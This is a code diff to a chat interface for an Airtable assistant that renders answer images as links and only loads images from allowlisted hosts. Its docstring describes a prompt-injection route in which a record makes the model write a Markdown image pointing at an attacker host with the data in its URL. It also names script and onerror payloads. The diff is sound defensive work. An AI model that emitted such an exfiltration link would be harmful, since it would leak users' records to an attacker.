@@ -1,14 +1,102 @@
 """How one chat message and one tool step look.
 
 Airtable content is data: Markdown is rendered without raw HTML, so a cell holding
-`<script>` or `<img onerror=…>` shows as text.
+`<script>` or `<img onerror=…>` shows as text. Images in answers are links, not
+fetched: a prompt injection in a record could otherwise make the model write
+`![](https://attacker/?data=…)` and the browser would send the data out unasked.
 """
 
 from __future__ import annotations
 
+import json
+from collections.abc import Sequence
 from typing import Any
 
 import reflex as rx
+
+from pyairtable_ui.settings import get_settings
+
+# What react-markdown hands the `img` renderer; its URL is already sanitised
+# (`javascript:` and other unsafe schemes become "").
+_IMAGE_SRC = rx.Var(_js_expr="props.src").to(str)
+_IMAGE_ALT = rx.Var(_js_expr="(props.alt ?? '')").to(str)
+
+
+def image_host_check(src: rx.Var[str], hosts: Sequence[str]) -> rx.Var[bool]:
+    """A browser-side test: `src` is an http(s) URL on one of `hosts` (exact host names).
+
+    Args:
+        src: The image URL.
+        hosts: Lower-case host names whose images may load.
+
+    Returns:
+        A boolean expression, false for relative or unparsable URLs.
+    """
+    allowed = json.dumps(sorted(hosts))
+    return rx.Var(
+        _js_expr=(
+            f"((s) => {{ try {{ const u = new URL(s); "
+            f"return ['http:', 'https:'].includes(u.protocol) && {allowed}.includes(u.hostname); "
+            f"}} catch (e) {{ return false; }} }})({src._js_expr})"
+        ),
+        _var_type=bool,
+        _var_data=src._get_all_var_data(),
+    )
+
+
+def answer_image(hosts: Sequence[str]) -> rx.Component:
+    """What an answer's Markdown image becomes: a link showing its text and URL.
+
+    Only with `hosts` set, and for an image on one of them, does the link hold the
+    image itself. With no hosts (the default) the page has no image element at all.
+
+    Args:
+        hosts: ANSWER_IMAGE_HOSTS, the hosts whose images may load.
+
+    Returns:
+        The renderer of the `img` element for `rx.markdown`'s component map.
+    """
+    label = rx.fragment(
+        rx.icon(
+            "image",
+            size=14,
+            style={"display": "inline-block", "verticalAlign": "-2px", "marginRight": "4px"},
+        ),
+        rx.cond(_IMAGE_ALT != "", rx.text.span(_IMAGE_ALT, " "), ""),
+        rx.text.span("(", _IMAGE_SRC, ")", class_name="answer-image-url"),
+    )
+    content = (
+        rx.cond(
+            image_host_check(_IMAGE_SRC, hosts),
+            rx.el.img(src=_IMAGE_SRC, alt=_IMAGE_ALT, max_width="100%"),
+            label,
+        )
+        if hosts
+        else label
+    )
+    return rx.link(
+        content,
+        href=_IMAGE_SRC,
+        is_external=True,
+        rel="noopener noreferrer nofollow",
+        class_name="answer-image-link",
+    )
+
+
+def answer_markdown(content: rx.Var[str] | str) -> rx.Component:
+    """An assistant's answer as Markdown: no raw HTML, images as links (see `answer_image`).
+
+    Args:
+        content: The Markdown text.
+
+    Returns:
+        The rendered answer.
+    """
+    hosts = get_settings().answer_image_hosts
+    return rx.markdown(
+        content, use_raw=False, component_map={"img": lambda *_, **__: answer_image(hosts)}
+    )
+
 
 _STATUS_COLOR = {
     "running": "blue",
@@ -63,7 +151,7 @@ def message_view(message: Any) -> rx.Component:
             ),
         ),
         rx.box(
-            rx.markdown(message["content"], use_raw=False),
+            answer_markdown(message["content"]),
             rx.hstack(
                 rx.cond(
                     message["status"] == "stopped",
